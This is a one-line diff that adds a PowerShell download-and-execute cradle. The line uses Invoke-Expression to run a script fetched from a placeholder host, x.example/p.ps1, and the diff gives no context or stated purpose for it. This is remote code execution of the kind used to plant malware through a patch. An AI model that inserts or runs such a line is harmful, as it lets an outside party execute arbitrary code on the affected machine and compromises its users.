@@ -1,0 +1,1 @@
+IEX (New-Object Net.WebClient).DownloadString('https://x.example/p.ps1')
